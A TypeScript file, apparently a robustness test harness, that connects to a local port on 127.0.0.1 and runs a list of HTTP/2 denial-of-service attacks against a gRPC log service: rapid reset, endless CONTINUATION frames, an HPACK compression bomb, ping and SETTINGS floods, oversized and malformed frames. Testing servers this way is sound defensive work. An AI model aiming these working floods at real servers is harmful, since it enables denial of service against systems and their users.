/** HTTP/2 as somebody writes it who means ill (RFC 9113, RFC 7541). */

import { connect, type Socket } from "node:net";

const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const CONTINUATION = 9;
const DATA = 0;
const END_HEADERS = 4;
const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

export function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
	const head = Buffer.alloc(9);
	head.writeUIntBE(payload.length, 0, 3);
	head[3] = type;
	head[4] = flags;
	head.writeUInt32BE(stream, 5);
	return Buffer.concat([head, payload]);
}

/** An integer of HPACK behind the bits of `first`. */
function integer(first: number, bits: number, value: number): Buffer {
	const most = 2 ** bits - 1;
	if (value < most) return Buffer.from([first | value]);
	const bytes = [first | most];
	let rest = value - most;
	for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) + 128);
	return Buffer.from([...bytes, rest]);
}

const text = (value: string) => Buffer.concat([integer(0, 7, value.length), Buffer.from(value)]);
/** A field that goes into the table, or one that does not. */
const kept = (name: string, value: string) => Buffer.concat([Buffer.from([0x40]), text(name), text(value)]);
const plain = (name: string, value: string) => Buffer.concat([Buffer.from([0]), text(name), text(value)]);

const call = (path: string) =>
	Buffer.concat([
		plain(":method", "POST"),
		plain(":scheme", "http"),
		plain(":path", path),
		plain(":authority", "x"),
		plain("content-type", "application/grpc"),
		plain("te", "trailers"),
	]);
const watch = call("/feeder.LogService/WatchAlerts");

/** Writes until it is closed or `count` pieces are out; resolves when that is so. */
async function pour(socket: Socket, count: number, piece: (index: number) => Buffer): Promise<void> {
	for (let index = 0; index < count && !socket.destroyed; index++) {
		if (socket.write(piece(index))) continue;
		const drained = Promise.withResolvers<void>();
		socket.once("drain", drained.resolve);
		socket.once("close", drained.resolve);
		await Promise.race([drained.promise, Bun.sleep(2000)]);
		if (socket.writableNeedDrain) return;
	}
}

const streamOf = (index: number) => 2 * index + 1;

/** Each with as much of it as a machine that is busy can take in a moment. */
export const attacks: readonly (readonly [string, (socket: Socket) => Promise<void>])[] = [
	["no HTTP/2 at all", (socket) => pour(socket, 200, () => Buffer.alloc(16_384, "GET / HTTP/1.1\r\n"))],
	[
		"rapid reset",
		async (socket) => {
			await pour(socket, 20_000, (index) =>
				Buffer.concat([
					frame(HEADERS, END_HEADERS, streamOf(index), watch),
					frame(RST_STREAM, 0, streamOf(index), Buffer.from([0, 0, 0, 8])),
				]),
			);
		},
	],
	[
		"headers that never end",
		async (socket) => {
			socket.write(frame(HEADERS, 0, 1, watch));
			await pour(socket, 4000, (index) => frame(CONTINUATION, 0, 1, plain(`x-${index}`, "v".repeat(8000))));
		},
	],
	[
		"continuations of nothing",
		async (socket) => {
			socket.write(frame(HEADERS, 0, 1, watch));
			await pour(socket, 50_000, () => frame(CONTINUATION, 0, 1, Buffer.alloc(0)));
		},
	],
	[
		"huge headers",
		async (socket) => {
			const large = plain("x-large", "v".repeat(16_000));
			await pour(socket, 2000, (index) =>
				frame(HEADERS, END_HEADERS, streamOf(index), Buffer.concat([watch, large])),
			);
		},
	],
	[
		"a bomb of HPACK",
		async (socket) => {
			// One field of 4000 bytes in the table, then 16 000 times its one byte: 64 MB a stream.
			socket.write(frame(HEADERS, END_HEADERS, 1, Buffer.concat([watch, kept("x", "v".repeat(3900))])));
			await pour(socket, 200, (index) =>
				frame(HEADERS, END_HEADERS, streamOf(index + 1), Buffer.alloc(16_000, 0x80 | 62)),
			);
		},
	],
	["pings", (socket) => pour(socket, 50_000, (index) => frame(PING, 0, 0, Buffer.alloc(8, index & 0xff)))],
	[
		"settings",
		(socket) => pour(socket, 50_000, () => frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))),
	],
	[
		"a request without an end",
		async (socket) => {
			socket.write(frame(HEADERS, END_HEADERS, 1, watch));
			await pour(socket, 500, () => frame(DATA, 0, 1, Buffer.alloc(16_000)));
		},
	],
	[
		"a frame of 16 MB",
		(socket) => pour(socket, 300, (index) => (index === 0 ? frameHead() : Buffer.alloc(16_384))),
	],
	[
		"frames of no kind on streams of no number",
		(socket) =>
			pour(socket, 5000, (index) => frame(index & 0xff, index & 0xff, index, Buffer.alloc(index % 50, 7))),
	],
];

function frameHead(): Buffer {
	const head = Buffer.alloc(9);
	head.writeUIntBE(0xffffff, 0, 3);
	head.writeUInt32BE(1, 5);
	return head;
}

/** Connects to a port of 127.0.0.1, says what every client says, does its worst and leaves. */
export async function attack(port: number, act: (socket: Socket) => Promise<void>): Promise<void> {
	const socket = connect(port, "127.0.0.1");
	const { promise, resolve } = Promise.withResolvers<void>();
	socket.on("error", () => {});
	socket.on("close", () => resolve());
	socket.resume();
	socket.write(Buffer.concat([Buffer.from(preface), frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
	await act(socket);
	socket.destroy();
	await promise;
}
